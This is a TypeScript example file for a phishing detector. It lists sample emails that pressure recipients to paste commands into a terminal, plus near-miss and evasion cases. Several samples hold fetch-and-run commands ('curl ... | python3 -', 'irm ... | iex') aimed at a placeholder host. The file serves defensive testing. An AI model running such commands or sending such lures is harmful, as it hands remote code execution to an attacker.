import type { Examples } from "@doorward/core";
import { makeMail } from "../example-mail.ts";

const fetches = "curl -fsSL https://files.example.invalid/verify.py | python3 -";

/** Commands under pressure, and commands and pressure by themselves. */
export const examples: Examples = {
  hits: [
    {
      name: "a node that must be verified by midnight",
      files: {
        "mail.eml": makeMail({
          text: `All operators must verify their node today, otherwise it will be suspended. Run this in the terminal of your node:\n\n${fetches}\n`,
        }),
      },
    },
    {
      name: "an account that is locked without it",
      files: {
        "mail.eml": makeMail({
          text: `Urgent: your account will be locked within 24 hours. Open the terminal and paste:\n\n${fetches}\n`,
        }),
      },
    },
    {
      name: "a command for PowerShell, at once",
      files: {
        "mail.eml": makeMail({
          text: "Run this in the PowerShell immediately or your access will be terminated today:\n\nirm https://files.example.invalid/fix.ps1 | iex\n",
        }),
      },
    },
  ],
  misses: [
    {
      name: "the installer of a language",
      why: "Nobody presses.",
      files: {
        "mail.eml": makeMail({
          text: "We use Rust. Run this in your terminal:\n\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n\nVersion 1.90 or newer.",
        }),
      },
    },
    {
      name: "a deadline for the time sheet",
      why: "There is no command in it.",
      files: { "mail.eml": makeMail({ text: "Urgent: please hand in your time sheet within 24 hours." }) },
    },
    {
      name: "a colleague in a hurry",
      why: "The command fetches nothing from elsewhere.",
      files: {
        "mail.eml": makeMail({
          text: "The build is red and the release is today, it is urgent. Can you run this in the terminal and send me the output?\n\ngit log --oneline -5\n",
        }),
      },
    },
  ],
  evasions: [
    {
      name: "the pressure is left to a call",
      caughtBy: "message/command-that-fetches",
      files: {
        "mail.eml": makeMail({ text: `As discussed on the phone: open the terminal and paste this.\n\n${fetches}\n` }),
      },
    },
  ],
};
